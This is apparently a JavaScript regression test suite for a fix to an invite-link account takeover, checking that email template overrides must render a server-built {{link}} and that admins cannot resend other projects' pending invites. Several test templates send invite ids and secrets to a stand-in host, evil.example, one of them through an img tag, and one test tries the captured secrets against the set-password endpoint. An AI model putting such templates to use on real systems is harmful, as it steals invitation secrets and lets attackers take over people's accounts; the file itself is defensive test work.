// SPDX-License-Identifier: BSD-2-Clause
// Invite links and project email templates (issue 14, finding 5): a project admin could invite
// a person with a pending invite elsewhere, override the `invite` template to send {{secret}}
// to a host of their own, press resend, and open the person's account. Templates now see only
// {{link}} (built by the server under app_base_url), overrides of link templates must render
// it, and a resend only re-sends the project's own pending invite of an account without a
// password or other memberships.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import {
  Browser,
  TEST_PASSWORD,
  addMember,
  appBase,
  assertBadRequest,
  bearer,
  createProject,
  createSigninFixture,
  createUser,
  dbExec,
  dbQuery,
  formOf,
  http,
  mailTo,
  postJson,
  signIn,
  uniqueEmail,
  uniqueName,
  waitForMail,
} from './lib.mjs';

const APP_BASE = appBase();
const FHIR = { 'Content-Type': 'application/fhir+json' };
const ATTACKER_PASSWORD = 'Borrowed_Keys_Harbor_64';

/** A project with an admin: a bearer token for the API and a page session for the pages. */
async function adminFixture(prefix) {
  const fx = createSigninFixture(prefix);
  dbExec('UPDATE project_membership SET admin = TRUE WHERE id = ?', [fx.membershipId]);
  const { tokens } = await signIn(fx);
  fx.headers = { Authorization: bearer(tokens.access_token), ...FHIR };
  fx.b = new Browser();
  const form = formOf((await fx.b.get('signin')).text);
  const r = await fx.b.post(form.action, { ...form.fields, email: fx.email, password: fx.password });
  assert.equal(r.status, 303, r.text);
  return fx;
}

function putTemplate(fx, name, body) {
  return http(`admin/projects/${fx.projectId}/email-templates/${name}`, { method: 'PUT', headers: fx.headers, body: JSON.stringify(body) });
}

function invite(fx, email, extra = {}) {
  return postJson(`admin/projects/${fx.projectId}/invite`, { resourceType: 'Practitioner', firstName: 'Val', lastName: 'Victim', email, ...extra }, fx.headers);
}

/** Presses "Resend invite" on the members page. */
async function resend(fx, membershipId) {
  const { fields } = formOf((await fx.b.get(`manage/projects/${fx.projectId}/invite`)).text);
  return fx.b.post(`manage/projects/${fx.projectId}/members/${membershipId}/resend`, { csrf: fields.csrf });
}

/** Every (uuid, 32-hex) pair in a text: what an attacker would try as id and secret. */
function candidatePairs(text) {
  const ids = [...text.matchAll(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g)].map((m) => m[0]);
  const secrets = [...text.matchAll(/(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])/g)].map((m) => m[0]);
  return ids.flatMap((id) => secrets.map((secret) => ({ id, secret })));
}

describe('templates see {{link}}, never the raw secret', () => {
  it('overrides of invite, reset and verify-email must render {{link}}; the others need not', async () => {
    const fx = await adminFixture('is-tpl');
    for (const name of ['invite', 'reset', 'verify-email']) {
      assertBadRequest(await putTemplate(fx, name, { subject: 's', bodyText: 'Go to https://evil.example/?i={{id}}&s={{secret}}' }),
        'Template must contain {{link}}');
      assertBadRequest(await putTemplate(fx, name, { subject: 's', bodyText: 'Go: {{link}}', bodyHtml: '<p>{{secret}}</p>' }),
        'Template must contain {{link}}');
      // A {{link}} that never renders (a dead section, a comment) does not count.
      assertBadRequest(await putTemplate(fx, name, { subject: 's', bodyText: '{{#nothing}}{{link}}{{/nothing}}{{! {{link}} }}' }),
        'Template must contain {{link}}');
      const ok = await putTemplate(fx, name, { subject: 's', bodyText: 'Go: {{link}}', bodyHtml: '<a href="{{link}}">go</a>' });
      assert.equal(ok.status, 200, ok.text);
    }
    for (const name of ['invite-existing', 'welcome']) {
      const ok = await putTemplate(fx, name, { subject: 's', bodyText: 'Hello {{recipient_name}}' });
      assert.equal(ok.status, 200, ok.text);
    }
    // The override renders the link under app_base_url (for a project-scoped invitee, a Patient:
    // a server-scoped account's link never goes through an override).
    const email = uniqueEmail('is-file');
    const r = await invite(fx, email, { resourceType: 'Patient' });
    assert.equal(r.status, 200, r.text);
    const [mail] = await waitForMail(email);
    assert.match(mail.text, /^Go: \S+setpassword\/[0-9a-f-]{36}\/[0-9a-f]{32}$/m);
    assert.ok(mail.text.includes(`Go: ${APP_BASE}setpassword/`), mail.text);
  });
});

describe("another project's admin and a pending invite", () => {
  it("inviting the person, overriding the invite template and pressing resend yields no working secret", async () => {
    const A = await adminFixture('is-a');
    const B = await adminFixture('is-b');
    const victim = uniqueEmail('is-victim');
    // Project A invites the victim: a new account with a pending invite (A's link in the mail).
    assert.equal((await invite(A, victim, { admin: true })).status, 200);
    const [first] = await waitForMail(victim);
    const aLink = first.text.match(/setpassword\/([0-9a-f-]{36})\/([0-9a-f]{32})/);
    assert.ok(aLink, first.text);

    // B's admin sends the secret to their own host, invites the victim and presses resend.
    const evil = 'Hi {{recipient_name}}: https://evil.example/collect?l={{link}}&i={{id}}&s={{secret}}';
    await putTemplate(B, 'invite', { subject: 'Welcome', bodyText: evil, bodyHtml: `<img src="${evil}">` });
    const inv = await invite(B, victim);
    assert.equal(inv.status, 200, inv.text);
    const resent = await resend(B, inv.json.id);
    await new Promise((r) => setTimeout(r, 1000)); // delivery follows the response

    // Whatever B's template rendered, none of it opens the victim's account.
    const rendered = mailTo(victim).filter((m) => m.text.includes('evil.example')).map((m) => m.text).join('\n');
    for (const { id, secret } of candidatePairs(rendered)) {
      const r = await postJson('auth/setpassword', { id, secret, password: ATTACKER_PASSWORD }, FHIR);
      assert.notEqual(r.status, 200, `a secret from B's template opened the account: ${id}`);
    }
    // B's resend is refused: the pending invite is A's, and the account is A's member too.
    assert.equal(resent.status, 400, resent.text);
    assert.match(resent.text, /no pending invite|other projects/);
    // A's own link still works (B's invite did not cancel it).
    const aPage = await http(`setpassword/${aLink[1]}/${aLink[2]}`);
    assert.equal(aPage.status, 200, aPage.text);
  });

  it("a resend never issues a link for an account with a password or other memberships; the project's own pending invite goes out", async () => {
    const B = await adminFixture('is-own');
    // A person with an account (a password) invited to B: no pending invite to resend.
    const known = uniqueEmail('is-known');
    createUser({ email: known, password: TEST_PASSWORD });
    const k = await invite(B, known);
    assert.equal(k.status, 200, k.text);
    assert.equal((await resend(B, k.json.id)).status, 400);
    // B's own invitee who meanwhile joined another project: refused too.
    const shared = uniqueEmail('is-shared');
    const s = await invite(B, shared);
    assert.equal(s.status, 200, s.text);
    addMember({ project: createProject(uniqueName('is-other')), user: s.json.user.reference.split('/')[1] });
    assert.equal((await resend(B, s.json.id)).status, 400);
    // B's own pending invite: resent, with the link under app_base_url, even through B's override
    // (a project-scoped invitee, a Patient: a server-scoped one's link uses the shipped file).
    await putTemplate(B, 'invite', { subject: 'Welcome', bodyText: 'Open {{link}} now' });
    const own = uniqueEmail('is-ownee');
    const o = await invite(B, own, { resourceType: 'Patient' });
    assert.equal(o.status, 200, o.text);
    const r = await resend(B, o.json.id);
    assert.equal(r.status, 303, r.text);
    const mails = await waitForMail(own, 2);
    assert.match(mails[1].text, new RegExp(`^Open ${APP_BASE.replace(/[.*+?^${}()|[\]\\/]/g, '\\$&')}setpassword/[0-9a-f-]{36}/[0-9a-f]{32} now`));
    assert.equal(dbQuery("SELECT COUNT(*) FROM security_request WHERE user_id = ? AND type = 'invite' AND NOT used",
      [o.json.user.reference.split('/')[1]])[0][0], '1');
  });
});
